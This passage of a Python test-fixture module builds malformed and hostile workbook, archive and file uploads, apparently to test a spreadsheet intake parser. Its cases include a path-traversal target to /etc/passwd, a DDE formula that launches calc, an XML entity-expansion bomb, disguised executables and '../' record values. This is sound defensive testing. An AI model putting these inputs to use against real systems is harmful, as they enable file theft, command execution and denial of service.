    "heads twice": lambda book: book.put("F3", _text("2018年")),
    "years that are not": lambda book: book.put("E3", _text("20180年")),
    "cells named absurdly": _rows(b'<row r="-5"><c r="ZZZ9999999"><v>1</v></c><c r="A0"/><c r="\xc3\xa9"/></row>'),
    "a row far away": _rows(b'<row r="99999999999999999999"><c><v>1</v></c></row>'),
    "a column far away": _rows(b'<row r="90"><c r="XFD90"><v>1</v></c></row>'),
    "elements in elements": lambda book: book.swap(book.figures, b"</sheetData>", b"<x>" * 50_000),
    "cells in cells": _rows(b"<row>" + b"<c>" * 90 + b"<v>1</v>" + b"</c>" * 90 + b"</row>"),
    "an open end": lambda book: book.swap(book.figures, b"</worksheet>", b""),
    "another encoding": lambda book: book.swap(book.figures, b"<worksheet", b'<?xml version="1.0" encoding="ebcdic-cp-us"?><worksheet'),
    "noughts in it": _part("xl/workbook.xml", b"\0" * 99),
    "no workbook": _part("xl/workbook.xml", None),
    "no list of parts": _part("xl/_rels/workbook.xml.rels", None),
    "no types": _part("[Content_Types].xml", None),
    "a part that leaves": _target("../../../../../../etc/passwd"),
    "a part on the web": _target("http://x.invalid/sheet.xml"),
    "a part that is the book": _target("workbook.xml"),
    "a part that is itself listed": _target("_rels/workbook.xml.rels"),
    "900 sheets": _many_sheets,
    "names that start programs": lambda book: book.swap("xl/workbook.xml", b"</sheets>", b"</sheets><definedNames><definedName name=\"x\">cmd|' /c calc'!A0</definedName></definedNames>") if b"<definedNames>" not in book.parts["xl/workbook.xml"] else None,
    "3000 comments": _comments,
    "a record of version 999": _of_record("B1", "999"),
    "a record of version none": _of_record("B1", "²"),
    "a record of another unit": _of_record("B3", "dongshan"),
    "a record of a path": _of_record("B3", "../../county"),
    "a record of no unit": _of_record("B3", ""),
    "a record of another kind": _of_record("B2", "ledger"),
    "a record of no kind": _of_record("B2", "zzz"),
    "a record of no bid": _of_record("B4", "../x"),
    "types of a billion": lambda book: book.swap("[Content_Types].xml", b"<Types", _LAUGHS + b"<Types"),
}  # fmt: skip
"""Changes of the workbook of a unit; what of it is right may be taken."""

_FILES: Mapping[str, Callable[[], bytes]] = {
    "old.xls": lambda: compound_file({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0"}),
    "old called.xlsx": lambda: compound_file({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0"}),
    "locked.xlsx": lambda: compound_file({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "html called.xlsx": lambda: b"<html><table><tr><td>1</td></tr></table></html>",
    "program called.xlsx": lambda: PROGRAM,
    "pdf called.xlsx": lambda: PDF,
    "nothing.xlsx": bytes,
    "noughts.xlsx": lambda: bytes(5_000),
    "zip called.xlsx": lambda: _GOOD,
    "word called.xlsx": lambda: package_files.document(package_files.paragraph("x")),
    "a line of.csv": lambda: b"x" * (4 << 20),
    "quotes.csv": lambda: b'"' * 200_001,
    "wide.csv": lambda: "编号,2018年\n".encode("utf-16"),
    "program.exe": lambda: PROGRAM,
    "shortcut.lnk": lambda: SHORTCUT,
    "script.js": lambda: b"x()",
    "volume.z01": lambda: b"x",
    "volume.7z.001": lambda: b"7z\xbc\xaf\x27\x1c",
    "tar.tar.gz": _tar,
}
"""Files that come without a pack."""


_TABLES: Mapping[str, Callable[[], bytes]] = {
    "noughts in.csv": "编号,指标,填报项目,单位,2018年\n25.1,\0,\0,吨,1\n".encode,
    "rows.csv": lambda: "编号,指标,填报项目,单位,2018年\n".encode() + b"25.1,a,b,c,1\n" * 6_000,
}
"""Tables of figures without a form."""


def parcels(book: bytes) -> Iterator[tuple[str, bytes]]:
    """Everything by the name of its file; `book` is the workbook of a unit as it was sent out.

    The names of those of which nothing may be taken begin with `no`.
    """
    for what, path in _OF_FOLDERS.items():
        yield f"no path {what}.zip", archive({path: PDF})
    for what, name in _OF_NAMES.items():
        yield f"name {what}.zip", beside(name, PDF + what.encode())
    for what, (name, content) in _PROGRAMS.items():
        yield f"no {what}.zip", beside(name, content)
    for kind, of_kind in (("document", _DOCUMENTS), ("no", _NOTHING)):
        for what, (name, build) in of_kind.items():
            yield f"{kind} {what}.zip", beside(name, build())
    for what, build in _PACKS.items():
        yield f"no pack {what}.zip", build()
    for what, build in _ODD_PACKS.items():
        yield f"pack {what}.zip", build()
    for what, change in _BOOKS.items():
        changed = Book(book)
        change(changed)
        yield f"book {what}.xlsx", changed.packed()
    for kind, of_kind_ in (("no file", _FILES), ("table", _TABLES)):
        for name, build in of_kind_.items():
            yield f"{kind} {name}", build()
